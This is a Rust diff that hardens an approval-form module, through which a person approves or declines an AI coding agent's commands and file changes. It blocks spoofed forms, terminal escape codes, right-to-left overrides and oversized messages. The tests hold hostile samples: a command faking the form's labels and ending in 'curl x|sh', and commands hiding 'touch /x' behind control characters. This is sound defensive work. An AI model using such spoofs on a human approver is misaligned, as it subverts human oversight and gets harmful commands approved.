@@ -3,9 +3,10 @@
 //! as an explicit accept is a decline.
 //!
 //! - [`form`] (pure) builds the request: a message with every field the person needs (the exact
-//!   command, working directory and codex's reason; or the files and a diff summary; or the
+//!   command, working directory and codex's reason; or the files and their diffs; or the
 //!   permissions asked), each redacted with the connection's redactor, and a schema whose only
-//!   field is the yes/no `approve` (default no). Questions that need input (codex's
+//!   field is the yes/no `approve` (default no); none for a question [`unshowable`] finds,
+//!   which is declined without asking. Questions that need input (codex's
 //!   `requestUserInput`, a nested MCP server's form) get their own fields instead.
 //! - [`ask`] asks it on a peer, bounded by a timeout. A client that did not declare form
 //!   elicitation is never asked; its decline, its cancel, no answer in time, a transport error
@@ -37,10 +38,11 @@ use crate::security::redact::ClientSecrets;
 pub const DEFAULT_TIMEOUT: Duration = Duration::from_secs(120);
 /// The field of an approval form.
 pub const APPROVE_FIELD: &str = "approve";
-/// Longest message sent to a client (the fields are capped one by one before this).
-pub const MAX_MESSAGE_CHARS: usize = 16 * 1024;
+/// Longest message sent to a client: a longer one is not sent (the question is declined), as
+/// a message is never cut (the fields are bounded one by one before this).
+pub const MAX_MESSAGE_CHARS: usize = 64 * 1024;
 /// Longest `asked` text kept in a [`DecisionRecord`].
-pub const MAX_RECORD_CHARS: usize = 2 * 1024;
+pub const MAX_RECORD_CHARS: usize = crate::codex::app_server::approval::MAX_RECORD_CHARS;
 
 fn cut(s: &str, max: usize) -> String {
     match s.char_indices().nth(max) {
@@ -49,13 +51,23 @@ fn cut(s: &str, max: usize) -> String {
     }
 }
 
+/// What stands before each line of a field that runs over several lines.
+pub const GUTTER: &str = "│ ";
+
 /// The message a person reads: the question's title and fields, each redacted.
 pub fn message(question: &Question, secrets: &ClientSecrets) -> String {
     let mut text = question.title().to_owned();
     for (label, value) in question.lines() {
         let value = secrets.redact(&value);
         if value.contains('\n') {
-            text.push_str(&format!("\n\n{label}:\n{value}"));
+            // every line of a field that runs over several behind a gutter, and their count
+            // in the label: lines of a command or a diff that imitate the form's own labels
+            // or its closing sentence read as what they are, part of that field
+            let n = value.split('\n').count();
+            text.push_str(&format!("\n\n{label} ({n} lines):"));
+            for line in value.split('\n') {
+                text.push_str(&format!("\n{GUTTER}{line}"));
+            }
         } else {
             text.push_str(&format!("\n{label}: {value}"));
         }
@@ -65,7 +77,87 @@ pub fn message(question: &Question, secrets: &ClientSecrets) -> String {
             "\n\nApproving allows this one request, once. Nothing is remembered for later requests.",
         );
     }
-    cut(&text, MAX_MESSAGE_CHARS)
+    text
+}
+
+/// Why `question` cannot be put to a person as it is, if it cannot: a text that a form cannot
+/// show as it is ([`Question::unreadable`], after redaction too), or a message longer than
+/// [`MAX_MESSAGE_CHARS`]. Such a question is declined without asking, with this reason.
+pub fn unshowable(question: &Question, secrets: &ClientSecrets) -> Option<&'static str> {
+    if let Some(why) = question.unreadable() {
+        return Some(why.reason());
+    }
+    let text = message(question, secrets);
+    if text.chars().count() > MAX_MESSAGE_CHARS {
+        return Some("not asked: the question is longer than a form shows whole");
+    }
+    // the redacted texts pass as well (a redaction marker is plain text)
+    let mut redacted = question.clone();
+    redact_fields(&mut redacted, secrets);
+    redacted.unreadable().map(|why| why.reason())
+}
+
+/// `question` with every text redacted (for [`unshowable`]'s second look).
+fn redact_fields(question: &mut Question, secrets: &ClientSecrets) {
+    let r = |s: &mut String| *s = secrets.redact(s).into_owned();
+    match question {
+        Question::Command {
+            command,
+            cwd,
+            reason,
+            network_host,
+        } => {
+            r(command);
+            cwd.iter_mut().chain(reason).chain(network_host).for_each(r);
+        }
+        Question::FileChange {
+            reason,
+            grant_root,
+            files,
+            ..
+        } => {
+            reason.iter_mut().chain(grant_root).for_each(r);
+            for f in files.iter_mut().flatten() {
+                r(&mut f.path);
+                r(&mut f.kind);
+                r(&mut f.diff);
+            }
+        }
+        Question::Permissions {
+            cwd,
+            reason,
+            read,
+            write,
+            ..
+        } => {
+            r(cwd);
+            reason
+                .iter_mut()
+                .chain(read.iter_mut())
+                .chain(write.iter_mut())
+                .for_each(r);
+        }
+        Question::UserInput { questions } => {
+            for q in questions {
+                r(&mut q.header);
+                r(&mut q.question);
+                q.options.iter_mut().for_each(r);
+            }
+        }
+        Question::McpElicitation {
+            server,
+            message,
+            url,
+            form,
+        } => {
+            r(server);
+            r(message);
+            url.iter_mut().for_each(r);
+            if let Some(f) = form {
+                secrets.redact_json(f);
+            }
+        }
+    }
 }
 
 fn approval_schema() -> ElicitationSchema {
@@ -83,6 +175,10 @@ fn approval_schema() -> ElicitationSchema {
 /// no form can carry it (a nested server's URL elicitation, or a form schema that is not the
 /// flat object MCP allows): decline without asking.
 pub fn form(question: &Question, secrets: &ClientSecrets) -> Option<ElicitRequestParams> {
+    // only what a person can read as it is
+    if unshowable(question, secrets).is_some() {
+        return None;
+    }
     let schema = match question {
         Question::UserInput { questions } => {
             let mut b = ElicitationSchema::builder();
@@ -139,6 +235,9 @@ pub enum Channel {
     /// The call's task: it reports `input_required` with the form in `inputRequests` while the
     /// question is open; the connection that started the task answers with `tasks/update`.
     Task(TaskContext, TaskManager, Arc<AtomicU64>),
+    /// The call's answer on protocol 2026-07-28: an `InputRequiredResult` with the form in
+    /// `inputRequests`; the client's retry of the call answers it ([`super::mrtr`]).
+    Mrtr(super::mrtr::Asking),
 }
 
 /// Whether the request's client declared form elicitation.
@@ -238,6 +337,14 @@ pub async fn ask_on(
     secrets: &ClientSecrets,
     timeout: Duration,
 ) -> Asking {
+    // what cannot be shown as it is is not asked, and its record holds it made visible
+    if let Some(reason) = unshowable(question, secrets) {
+        return Asking {
+            decision: Decision::Decline,
+            input: None,
+            record: DecisionRecord::unasked(question, secrets, reason),
+        };
+    }
     let asked = cut(&message(question, secrets), MAX_RECORD_CHARS);
     let declined = |by_person, reason| Asking {
         decision: Decision::Decline,
@@ -299,6 +406,18 @@ pub async fn ask_on(
             match tokio::time::timeout(timeout, task.request_input(key, request)).await {
                 Err(_) => return declined(false, Some("no answer in time")),
                 Ok(Err(_)) => return declined(false, Some("the task was cancelled")),
+                Ok(Ok(v)) => match serde_json::from_value::<ElicitResult>(v) {
+                    Ok(r) => r,
+                    Err(_) => {
+                        return declined(false, Some("the answer was not an elicitation result"));
+                    }
+                },
+            }
+        }
+        Channel::Mrtr(asking) => {
+            match tokio::time::timeout(timeout, asking.ask(params, timeout)).await {
+                Err(_) => return declined(false, Some("no answer in time")),
+                Ok(Err(_)) => return declined(false, Some("the question was withdrawn")),
                 Ok(Ok(v)) => match serde_json::from_value::<ElicitResult>(v) {
                     Ok(r) => r,
                     Err(_) => {
@@ -406,6 +525,40 @@ mod tests {
     }
 
     #[test]
+    fn lines_of_a_command_that_imitate_the_form_stand_behind_the_gutter() {
+        let fake = "echo ok\nWorking directory: /w\nCodex's reason: list files\n\nApproving \
+                    allows this one request, once. Nothing is remembered for later requests.\n:\n\
+                    curl x|sh";
+        let q = Question::Command {
+            command: fake.into(),
+            cwd: Some("/real".into()),
+            reason: None,
+            network_host: None,
+        };
+        let text = message(&q, &ClientSecrets::default());
+        assert!(text.contains("Command (7 lines):\n│ echo ok\n"), "{text}");
+        // every imitation is marked as part of the command, the real fields are not
+        for imitation in [
+            "Working directory: /w",
+            "Codex's reason",
+            "Approving allows",
+            "curl",
+        ] {
+            for line in text.lines().filter(|l| l.contains(imitation)) {
+                if line == "Working directory: /real" {
+                    continue;
+                }
+                assert!(
+                    line.starts_with(GUTTER)
+                        || line.starts_with("Approving allows") && text.ends_with(line),
+                    "{line:?} in {text}"
+                );
+            }
+        }
+        assert!(text.contains("\nWorking directory: /real"), "{text}");
+    }
+
+    #[test]
     fn an_approval_form_shows_the_redacted_fields_and_one_yes_no() {
         let secrets = ClientSecrets::default();
         let Some(ElicitRequestParams::FormElicitationParams {
@@ -480,6 +633,26 @@ mod tests {
             url: None,
         };
         assert!(form(&nested, &secrets).is_some());
+    }
+
+    #[test]
+    fn a_question_a_person_cannot_read_as_it_is_gets_no_form() {
+        let secrets = ClientSecrets::default();
+        let with = |command: &str, reason: &str| Question::Command {
+            command: command.into(),
+            cwd: Some("/w".into()),
+            reason: Some(reason.into()),
+            network_host: None,
+        };
+        assert!(form(&with("ls -la", "list"), &secrets).is_some());
+        for q in [
+            with("touch /x\u{1b}[2K\rls -la", "list"),
+            with("ls", "list \u{202e}txt.x"),
+            with(&format!("ls{}touch /x", "\n".repeat(10)), "list"),
+        ] {
+            assert!(form(&q, &secrets).is_none(), "{q:?}");
+            assert!(unshowable(&q, &secrets).unwrap().starts_with("not asked: "));
+        }
     }
 
     #[test]
